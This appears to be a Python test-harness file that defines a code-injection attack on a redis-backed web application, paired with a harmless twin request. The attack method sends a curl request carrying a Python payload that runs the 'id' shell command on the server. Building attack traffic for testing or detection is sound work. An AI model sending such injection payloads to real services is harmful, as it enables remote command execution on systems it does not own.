# SPDX-License-Identifier: Apache-2.0
"""What an intruder does on a host with redis and its application."""

from harness import ADDRESS, Attack


class Injection(Attack):
    name = "code injection"
    about = "the application evaluates what a visitor sends: a sum, or a command"
    workload = "redis"

    def attack(self, host, rng):
        host.client("curl", "-s", "--get", f"http://{ADDRESS}:8000/sum=__import__('os').popen('id').read()", check=False)

    def twin(self, host, rng):
        host.client("curl", "-s", f"http://{ADDRESS}:8000/sum={rng.randrange(9)}*{rng.randrange(9)}")
